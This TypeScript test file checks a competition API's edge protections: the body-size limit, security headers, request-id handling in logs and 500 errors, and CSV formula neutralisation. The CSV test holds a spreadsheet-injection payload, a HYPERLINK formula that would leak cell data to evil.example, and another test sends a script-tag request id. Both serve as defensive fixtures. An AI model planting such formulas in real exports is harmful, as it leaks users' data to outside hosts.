/**
 * The API's edge: the 1 MB body limit (413 as JSON, before authentication, however the length is
 * declared), security headers on every answer, request ids in logs and 500 bodies, and CSV
 * headers made safe for spreadsheets like the cells below them.
 */
import { createServer, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { getRequestListener } from '@hono/node-server';
import { parse } from 'csv-parse/sync';
import { createLocalJWKSet } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../functions/adapters/config.ts';
import { createFullApp } from '../../functions/app/api-areas.ts';
import { MAX_BODY_BYTES } from '../../functions/app/edge.ts';
import { buildDeps } from '../../functions/composition-all.ts';
import { localDocumentClient, localS3Client, startDynalite, type RunningService } from '../../functions/local/stand-ins.ts';
import { competitionInput, openCompetition, people, startHarness, type Harness } from '../support/api-harness.ts';
import { captureOutput } from '../support/output-capture.ts';

let h: Harness;
beforeAll(async () => {
  h = await startHarness('2026-12-01T10:00:00Z');
});
afterAll(() => h.stop());

/** A competition whose description alone makes the body `bytes` long (give or take a few hundred). */
const oversize = (bytes = MAX_BODY_BYTES + 1000) => JSON.stringify(competitionInput({ description: 'x'.repeat(bytes) }));

function streamOf(text: string, chunk = 64 * 1024): ReadableStream<Uint8Array> {
  const bytes = new TextEncoder().encode(text);
  let offset = 0;
  return new ReadableStream({
    pull(controller) {
      if (offset >= bytes.length) return controller.close();
      controller.enqueue(bytes.subarray(offset, offset + chunk));
      offset += chunk;
    },
  });
}

describe('the body limit', () => {
  it('answers an oversize body with 413 in the standard error body, storing nothing', async () => {
    const before = await h.allItems();
    const r = await h.call('POST', '/api/competitions', people.organiser, oversize());
    expect(r.status).toBe(413);
    expect(r.headers.get('content-type')).toContain('application/json');
    expect(r.json).toEqual({ error: { code: 'PAYLOAD_TOO_LARGE', message: expect.stringContaining('1 MB'), fields: { body: 'too large' } } });
    expect(await h.allItems()).toEqual(before);

    // Just under the limit, the body is read and judged by the schema instead.
    const under = await h.call('POST', '/api/competitions', people.organiser, oversize(MAX_BODY_BYTES - 5000));
    expect(under.status).toBe(400);
    expect(under.json.error.code).toBe('VALIDATION_FAILED');
  });

  it('refuses before any authentication work: anonymous and bad-token callers get 413, not 401', async () => {
    for (const authorization of [undefined, 'Bearer not-a-token']) {
      const r = await h.app.request('/api/competitions', {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) },
        body: oversize(),
      });
      expect(r.status).toBe(413);
    }
  });

  it('counts what arrives when the length is missing (a streamed body) or understated', async () => {
    const before = await h.allItems();
    const token = await h.token(people.organiser);
    const streamed = await h.app.request('/api/competitions', {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: streamOf(oversize()),
      duplex: 'half',
    } as RequestInit);
    expect(streamed.status).toBe(413);
    expect((await streamed.json()).error.code).toBe('PAYLOAD_TOO_LARGE');

    const lying = await h.app.request('/api/competitions', {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}`, 'content-length': '100' },
      body: oversize(),
    });
    expect(lying.status).toBe(413);
    expect(await h.allItems()).toEqual(before);
  });

  it('works the same behind @hono/node-server (the local runtime): chunked oversize → 413, a normal body still arrives', async () => {
    const server = createServer(getRequestListener(h.app.fetch));
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    const { port } = server.address() as AddressInfo;
    const token = await h.token(people.organiser);
    const post = (body: string, chunked: boolean) =>
      new Promise<{ status: number; json: { error?: { code: string }; id?: string } }>((resolve, reject) => {
        const req = httpRequest({ host: '127.0.0.1', port, method: 'POST', path: '/api/competitions', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` } }, (res) => {
          let text = '';
          res.setEncoding('utf8').on('data', (d: string) => (text += d)).on('end', () => resolve({ status: res.statusCode!, json: JSON.parse(text) }));
        });
        req.on('error', (e: NodeJS.ErrnoException) => (e.code === 'EPIPE' || e.code === 'ECONNRESET' ? undefined : reject(e)));
        if (chunked) for (let i = 0; i < body.length; i += 64 * 1024) req.write(body.slice(i, i + 64 * 1024));
        req.end(chunked ? undefined : body);
      });
    try {
      const refused = await post(oversize(), true);
      expect(refused.status).toBe(413);
      expect(refused.json.error?.code).toBe('PAYLOAD_TOO_LARGE');
      const created = await post(JSON.stringify(competitionInput({ title: 'Through node-server' })), false);
      expect(created.status).toBe(201);
    } finally {
      await new Promise((done) => server.close(done));
    }
  });
});

describe('security headers', () => {
  it('are on every API answer: success, refusal and not-found', async () => {
    const answers = [await h.call('GET', '/api/health'), await h.call('GET', '/api/me'), await h.call('GET', '/api/nothing-here', people.sme1)];
    expect(answers.map((r) => r.status)).toEqual([200, 401, 404]);
    for (const r of answers) {
      expect(r.headers.get('x-content-type-options')).toBe('nosniff');
      expect(r.headers.get('referrer-policy')).toBe('no-referrer');
      expect(r.headers.get('x-frame-options')).toBe('DENY');
      const csp = r.headers.get('content-security-policy') ?? '';
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(r.headers.get('x-request-id')).toMatch(/^[\w.:-]+$/);
    }
  });
});

describe('unexpected errors', () => {
  let dynamo: RunningService;
  let broken: ReturnType<typeof createFullApp>;
  beforeAll(async () => {
    // The real adapters against a table that does not exist: every read fails in the DynamoDB client.
    dynamo = await startDynalite();
    const deps = buildDeps(loadConfig({ TABLE_NAME: 'no-such-table', BUCKET_NAME: 'none', AUTH_ISSUER: 'https://issuer.test/pool', AUTH_AUDIENCE: 'podium-web', CURSOR_SECRET: 'edge-test-cursor-secret-0123456789abcdef' }), {
      dynamo: localDocumentClient(dynamo.endpoint),
      s3: localS3Client('http://127.0.0.1:9'),
      keys: createLocalJWKSet({ keys: [] }),
    });
    broken = createFullApp(deps);
  });
  afterAll(() => dynamo.stop());

  /** The answer, and the log lines printed meanwhile (at the tests' threshold: errors only). */
  async function failing(init: RequestInit = {}, env?: Record<string, unknown>) {
    const { result: res, logs } = await captureOutput(async () => broken.request('/api/competitions', init, env));
    return { status: res.status, body: (await res.json()) as { error: Record<string, unknown> }, header: res.headers.get('x-request-id'), logged: logs };
  }

  it('logs one JSON line with the request id and answers 500 carrying that id, no internals', async () => {
    const r = await failing({ headers: { 'x-request-id': 'trace-42', 'x-correlation-id': 'journey-9' } });
    expect(r.status).toBe(500);
    expect(r.body).toEqual({ error: { code: 'INTERNAL', message: expect.any(String), requestId: 'trace-42' } });
    expect(JSON.stringify(r.body)).not.toMatch(/ResourceNotFound|no-such-table|stack|at /);
    expect(r.header).toBe('trace-42');
    expect(r.logged).toHaveLength(1);
    expect(r.logged[0]).toMatchObject({
      level: 'ERROR',
      message: 'unhandled error',
      service: 'podium',
      requestId: 'trace-42',
      correlationId: 'journey-9',
      method: 'GET',
      route: '/api/competitions',
      error: { name: 'ResourceNotFoundException', message: expect.any(String), stack: expect.stringContaining('ResourceNotFoundException') },
    });
  });

  it("makes up an id when the caller sends none (or an unsafe one), and on Lambda uses API Gateway's", async () => {
    const local = await failing({ headers: { 'x-request-id': 'not a plain id; <script>' } });
    expect(local.body.error.requestId).toMatch(/^[0-9a-f-]{36}$/);
    expect(local.logged[0]!.requestId).toBe(local.body.error.requestId);
    expect(local.logged[0]!.correlationId).toBe(local.body.error.requestId);

    const lambda = await failing({}, { requestContext: { requestId: 'apigw-7f3a' }, lambdaContext: { awsRequestId: 'lambda-9c1e' } });
    expect(lambda.body.error.requestId).toBe('apigw-7f3a');
    expect(lambda.logged[0]).toMatchObject({ requestId: 'apigw-7f3a', correlationId: 'apigw-7f3a' });
  });
});

describe('CSV exports', () => {
  it('neutralise formulas in header cells (question labels become headers) as in data cells', async () => {
    const label = '=HYPERLINK("https://evil.example/?leak="&A2,"Budget")';
    const c = await openCompetition(h, { title: 'Formula headers', questions: [{ id: 'budget', label, required: false, maxLength: 200 }] });
    const csv = await h.exportFile(people.organiser, c.id, 'submissions.csv');
    expect(csv.status).toBe(200);
    const [header] = parse(csv.text, { bom: true }) as string[][];
    expect(header).toContain(`'${label}`);
    expect(header!.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
